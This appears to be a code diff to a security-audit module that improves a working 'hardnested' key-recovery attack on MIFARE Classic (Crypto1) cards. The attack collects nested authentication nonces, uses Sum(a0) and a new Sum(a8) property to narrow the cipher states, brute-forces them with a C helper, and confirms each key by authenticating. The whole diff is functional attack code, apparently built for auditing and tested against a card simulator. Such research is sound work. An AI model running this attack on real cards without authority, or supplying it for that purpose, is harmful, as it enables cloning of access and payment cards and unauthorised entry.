@@ -28,12 +28,13 @@ from __future__ import annotations
 
 import math
 import os
+from dataclasses import dataclass
 import time
 from collections.abc import Callable
 
 import numpy as np
 
-from audit._hardnested import brute_force, half_sums
+from audit._hardnested import brute_force, brute_force8, half_sums
 from audit.m1_attacks import AttackFailed, nested_request, try_key
 from cardsim.crypto1 import FA, FB, FC, MASK24, Crypto1
 from cardsim.mifare import Frame
@@ -45,6 +46,13 @@ MAX_NONCES = 20_000  # ~1,600 show every first byte; far more means the nonces a
 # at clock 8, bit 5 at 6 and 8 (odd half); bit 6 at 7, bit 4 at 5 and 7 (even half).
 FLIPS = ((0x80, "odd", 1), (0x20, "odd", 2), (0x40, "even", 1), (0x10, "even", 2))
 CHUNK_SECONDS = 1.0  # one brute-force call between progress lines and budget checks
+# Sum(a8): after every first byte is seen, a full-size search collects on until one first byte has this many
+# distinct second bytes (or the budget or MAX_NONCES stops it), so that its Sum(a8) is guessed well.
+SUM8_SAMPLES = 48
+SUM8_FROM_BITS = 37  # collect on for Sum(a8) only when at least this many key bits are unknown
+B_NONCES = 16  # nonces kept per first byte: the brute force checks the chosen first byte's from after that byte
+# The values p(16 - q) + (16 - p)q can take (p, q = 0..16): the possible Sum(a0) and Sum(a8).
+SUM_VALUES = sorted({p * (16 - q) + (16 - p) * q for p in range(17) for q in range(17)})
 
 Progress = Callable[[str], None]
 
@@ -99,18 +107,32 @@ class NestedNonces:
         self.count = 0
         self.a0: dict[int, int] = {}
         self.nonces: dict[int, int] = {}  # {nT} -> a bits
+        self.a8: dict[int, dict[int, int]] = {}  # first byte -> {second byte: a8 bit}
+        self.by_first: dict[int, dict[int, int]] = {}  # first byte -> up to B_NONCES of its {nT} -> a bits
 
     def add(self, enc: int, parities: tuple[int, ...]) -> None:
-        """One encrypted nonce and its four encrypted parity bits; AttackFailed when a first byte comes with
-        both a0 readings (for one key the bit is a function of the byte: the frames are not clean)."""
+        """One encrypted nonce and its four encrypted parity bits; AttackFailed when a first byte (or first two
+        bytes) come with both a0 (a8) readings (for one key the bit is a function of the bytes: the frames are
+        not clean)."""
         a = _a_bits(enc, parities)
-        first = enc >> 24
+        first, second = enc >> 24, enc >> 16 & 0xFF
         if self.a0.get(first, a & 1) != a & 1:
             raise AttackFailed(f"first byte {first:02X} came with both parity readings: frames are not clean")
+        a8 = self.a8.setdefault(first, {})
+        if a8.get(second, a >> 1 & 1) != a >> 1 & 1:
+            raise AttackFailed(f"first bytes {first:02X}{second:02X} came with both a8 readings: frames are not clean")
         self.count += 1
         self.a0[first] = a & 1
+        a8[second] = a >> 1 & 1
         if len(self.nonces) < BRUTE_NONCES:
             self.nonces[enc] = a
+        mine = self.by_first.setdefault(first, {})
+        if len(mine) < B_NONCES:
+            mine[enc] = a
+
+    def most_second_bytes(self) -> int:
+        """The most distinct second bytes seen after one first byte."""
+        return max((len(seconds) for seconds in self.a8.values()), default=0)
 
     def sum_a0(self) -> int:
         """Sum(a0): exact once every first byte has been seen."""
@@ -146,12 +168,19 @@ def collect_nested_nonces(
     target: tuple[int, int],
     deadline: float | None = None,
     progress: Progress = lambda _: None,
+    sum8_samples: int = 0,
 ) -> NestedNonces:
     """Nested authentications to ``target`` = (block, key type) from ``known`` = (block, key, key type) until
-    every first encrypted byte has been seen (~1,600 on average); ``deadline`` is a ``time.monotonic()``."""
+    every first encrypted byte has been seen (~1,600 on average), then on until some first byte has
+    ``sum8_samples`` distinct second bytes (for its Sum(a8); the deadline or MAX_NONCES end that part quietly);
+    ``deadline`` is a ``time.monotonic()``."""
     nonces = NestedNonces()
     chip.power_on()
-    while len(nonces.a0) < 256:
+    while len(nonces.a0) < 256 or nonces.most_second_bytes() < sum8_samples:
+        if len(nonces.a0) == 256 and (
+            nonces.count >= MAX_NONCES or (deadline is not None and time.monotonic() > deadline)
+        ):
+            break
         if deadline is not None and time.monotonic() > deadline:
             raise AttackFailed(
                 f"budget ran out while collecting nonces: {nonces.count} nonces, {len(nonces.a0)} of 256 first "
@@ -169,7 +198,10 @@ def collect_nested_nonces(
         nonces.add(enc, parities)
         if nonces.count % 256 == 0:
             progress(f"hardnested: {nonces.count} nonces, {len(nonces.a0)} of 256 first bytes seen")
-    progress(f"hardnested: {nonces.count} nonces collected, every first byte seen")
+    progress(
+        f"hardnested: {nonces.count} nonces collected, every first byte seen, at most "
+        f"{nonces.most_second_bytes()} second bytes after one"
+    )
     return nonces
 
 
@@ -202,6 +234,105 @@ def candidate_states(
     return pairs
 
 
+def _sum(p: int, q: int) -> int:
+    return p * (16 - q) + (16 - p) * q
+
+
+def _keyed_groups(halves: np.ndarray, keys: np.ndarray) -> dict[int, np.ndarray]:
+    """The halves by key (one sort, then slices of it); empty groups left out."""
+    order = np.argsort(keys, kind="stable")
+    halves, keys = halves[order], keys[order]
+    values, starts = np.unique(keys, return_index=True)
+    ends = [*starts[1:], len(keys)]
+    return {int(v): halves[a:b] for v, a, b in zip(values, starts, ends, strict=True)}
+
+
+@dataclass
+class Sum8Guess:
+    """One guess of Sum(a8) of the chosen first byte: its likelihood given that byte's second bytes, and the
+    (odd, even) lists of states *after the first byte* that the guess, Sum(a0) and the flips leave."""
+
+    sum8: int
+    likelihood: float
+    space: int
+    pairs: list[tuple[np.ndarray, np.ndarray]]
+
+
+@dataclass
+class Sum8Plan:
+    """The search over states after first byte ``first``: the guesses in the order to try them (the most likely
+    first), their posterior probabilities and the expected number of states tried before the key."""
+
+    first: int
+    guesses: list[Sum8Guess]
+    posterior: list[float]
+    expected: float
+
+    @property
+    def space(self) -> int:
+        return sum(g.space for g in self.guesses)
+
+
+def _hypergeometric(total: int, seen: int, ones: int) -> float:
+    """P(``ones`` ones among ``seen`` distinct second bytes | ``total`` of the 256 give a8 = 1)."""
+    if ones > total or seen - ones > 256 - total:
+        return 0.0
+    return math.comb(total, ones) * math.comb(256 - total, seen - ones) / math.comb(256, seen)
+
+
+def sum8_plan(nonces: NestedNonces, known_key_bits: tuple[int, int] | None = None) -> Sum8Plan:
+    """The second-byte sum property. Fix a first encrypted byte B: after its 8 clocks, the state's odd half is
+    the initial odd half shifted 4 places with 4 fed-back bits below (the even half likewise), so the initial
+    halves' 20 low bits, which decide p, q and the flips, are bits 4..23 of the halves after B; and over the
+    256 second bytes the same sum property holds for that state, Sum(a8) = p8(16 - q8) + (16 - p8)q8, with p8
+    and q8 read off the 20 low bits of its halves. So in the states after B both sums split by halves. Sum(a8)
+    is guessed from the second bytes seen after B (hypergeometric likelihood; the guesses that cannot give what
+    was seen are dropped, the others tried in order of likelihood, which is the order of least expected work),
+    and B is the first byte whose guesses leave the fewest states to try on average. ``known_key_bits`` must
+    leave the 4 high bits of both initial halves open (their place after B is taken by the fed-back bits)."""
+    mask, value = known_key_bits or (0, 0)
+    masks, values = Crypto1.from_key(mask), Crypto1.from_key(value)
+    if masks.odd >> 20 or masks.even >> 20:
+        raise ValueError("sum8_plan needs the 4 high bits of both halves open")
+    p_table, q_table = (np.frombuffer(t, dtype=np.uint8).astype(np.int32) for t in half_sums())
+    halves = {
+        "odd": _half_values((masks.odd & 0xFFFFF) << 4, (values.odd & 0xFFFFF) << 4),
+        "even": _half_values((masks.even & 0xFFFFF) << 4, (values.even & 0xFFFFF) << 4),
+    }
+    for flip, half, clocks in FLIPS:
+        feels = _filter_feels_first_input(halves[half] >> np.uint32(4), clocks)
+        halves[half] = halves[half][feels == nonces.flip_differs(flip)]
+    groups = {}
+    for half, table in (("odd", p_table), ("even", q_table)):
+        h = halves[half]
+        groups[half] = _keyed_groups(h, table[(h >> np.uint32(4)) & np.uint32(0xFFFFF)] * 17 + table[h & np.uint32(0xFFFFF)])
+    by_sum8: dict[int, list[tuple[np.ndarray, np.ndarray]]] = {}
+    for pk, odd in groups["odd"].items():
+        for qk, even in groups["even"].items():
+            if _sum(pk // 17, qk // 17) == nonces.sum_a0():
+                by_sum8.setdefault(_sum(pk % 17, qk % 17), []).append((odd, even))
+    spaces = {v: sum(len(o) * len(e) for o, e in pairs) for v, pairs in by_sum8.items()}
+    best: Sum8Plan | None = None
+    for first, seconds in nonces.a8.items():
+        if first not in nonces.by_first:
+            continue
+        seen, ones = len(seconds), sum(seconds.values())
+        like = {v: _hypergeometric(v, seen, ones) for v in by_sum8}
+        order = sorted((v for v in by_sum8 if like[v] > 0), key=lambda v: -like[v])
+        weights = [spaces[v] * like[v] for v in order]
+        total = sum(weights) or 1.0
+        posterior = [w / total for w in weights]
+        expected, before = 0.0, 0
+        for v, prob in zip(order, posterior, strict=True):
+            expected += prob * (before + spaces[v] / 2)
+            before += spaces[v]
+        if best is None or expected < best.expected:
+            guesses = [Sum8Guess(v, like[v], spaces[v], by_sum8[v]) for v in order]
+            best = Sum8Plan(first, guesses, posterior, expected)
+    assert best is not None
+    return best
+
+
 def hardnested_attack(
     chip: M1Chip,
     uid: int,
@@ -227,21 +358,45 @@ def hardnested_attack(
         )
     if known_key_bits is not None and (known_key_bits[1] & ~known_key_bits[0] or known_key_bits[0] >> 48):
         raise AttackFailed("known_key_bits: the value has bits outside the 48-bit mask")
-    nonces = collect_nested_nonces(chip, uid, known, target, deadline, progress)
-    pairs = candidate_states(nonces, known_key_bits)
-    space = sum(len(o) * len(e) for o, e in pairs)
+    mask = (known_key_bits or (0, 0))[0]
+    masks = Crypto1.from_key(mask)
+    use_sum8 = not (masks.odd >> 20 or masks.even >> 20)  # Sum(a8) needs the halves' high bits open
+    unknown = 48 - mask.bit_count()
+    samples = SUM8_SAMPLES if use_sum8 and unknown >= SUM8_FROM_BITS else 0
+    nonces = collect_nested_nonces(chip, uid, known, target, deadline, progress, samples)
+    flips = " ".join(f"{m:02X}" for m, _, _ in FLIPS if nonces.flip_differs(m)) or "none"
+    fed, targets = nonces.checks(uid)
+    # work: (odd, even, the first byte's checks or None) lists to brute-force, in order
+    work: list[tuple[np.ndarray, np.ndarray, tuple[bytes, bytes] | None]] = []
+    if use_sum8:
+        plan = sum8_plan(nonces, known_key_bits)
+        space = plan.space
+        mine = nonces.by_first[plan.first]
+        first_checks = (np.array([uid ^ enc for enc in mine], dtype=np.uint32).tobytes(), bytes(mine.values()))
+        for guess in plan.guesses:
+            work += [(odd, even, first_checks) for odd, even in guess.pairs]
+        seconds = nonces.a8[plan.first]
+        shown = ", ".join(f"{g.sum8} ({p:.0%})" for g, p in zip(plan.guesses[:4], plan.posterior[:4], strict=False))
+        sum8_line = (
+            f"; first byte {plan.first:02X} ({sum(seconds.values())} of {len(seconds)} second bytes give a8 = 1): "
+            f"Sum(a8) guesses {shown}{', ...' if len(plan.guesses) > 4 else ''}, "
+            f"2^{math.log2(max(plan.expected, 1)):.1f} states expected to be tried"
+        )
+    else:
+        pairs = candidate_states(nonces, known_key_bits)
+        space = sum(len(o) * len(e) for o, e in pairs)
+        work = [(odd, even, None) for odd, even in pairs]
+        sum8_line = ""
     if space == 0:
         raise AttackFailed("no state fits the nonces (the known key bits are wrong?)")
-    flips = " ".join(f"{m:02X}" for m, _, _ in FLIPS if nonces.flip_differs(m)) or "none"
     progress(
         f"hardnested: Sum(a0) = {nonces.sum_a0()}, first-byte flips that change a0: {flips}: "
-        f"2^{math.log2(space):.1f} states left of 2^{48 - (known_key_bits or (0, 0))[0].bit_count()}"
+        f"2^{math.log2(space):.1f} states left of 2^{unknown}{sum8_line}"
     )
-    fed, targets = nonces.checks(uid)
     cores = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count() or 1
     threads = min(cores, 64)  # the C brute force takes at most 64 threads
     done, rate, started = 0, 0.0, time.monotonic()
-    for odd, even in pairs:
+    for odd, even, first_checks in work:
         step = max(1, min(len(odd), int((rate or 2e7) * CHUNK_SECONDS) // len(even)))
         even_bytes = even.tobytes()
         for i in range(0, len(odd), step):
@@ -249,10 +404,14 @@ def hardnested_attack(
                 left = (space - done) / rate if rate else float("inf")
                 raise AttackFailed(
                     f"budget of {max_seconds:g} s ran out: brute-forced {done / space:.1%} of 2^{math.log2(space):.1f} "
-                    f"states at {rate / 1e6:.1f} M/s, ~{left:.0f} s more needed"
+                    f"states at {rate / 1e6:.1f} M/s, ~{left:.0f} s more needed at most"
                 )
             chunk = odd[i : i + step]
-            for state in brute_force(chunk.tobytes(), even_bytes, fed, targets, threads):
+            if first_checks is None:
+                found = brute_force(chunk.tobytes(), even_bytes, fed, targets, threads)
+            else:
+                found = brute_force8(chunk.tobytes(), even_bytes, *first_checks, fed, targets, threads)
+            for state in found:
                 key = int(Crypto1(state >> 24, state & MASK24).lfsr())
                 if try_key(FrameSlot(chip), target[0], key, target[1]):
                     progress(f"hardnested: key {key:012X} after {time.monotonic() - start:.1f} s")
@@ -261,6 +420,6 @@ def hardnested_attack(
             rate = done / max(time.monotonic() - started, 1e-9)
             progress(
                 f"hardnested: brute force {done / space:.1%} of 2^{math.log2(space):.1f}, {rate / 1e6:.1f} M/s, "
-                f"ETA {(space - done) / rate:.0f} s"
+                f"ETA {(space - done) / rate:.0f} s at most"
             )
     raise AttackFailed(f"all 2^{math.log2(space):.1f} states tried, none authenticates")
